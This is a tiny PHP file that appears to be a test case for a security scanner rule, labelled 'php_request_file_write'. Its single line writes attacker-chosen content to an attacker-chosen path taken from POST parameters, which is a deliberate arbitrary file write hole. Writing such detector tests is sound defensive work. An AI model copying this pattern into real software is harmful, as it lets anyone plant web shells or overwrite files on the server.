<?php
// want: php_request_file_write
file_put_contents($_POST['path'], $_POST['content']);
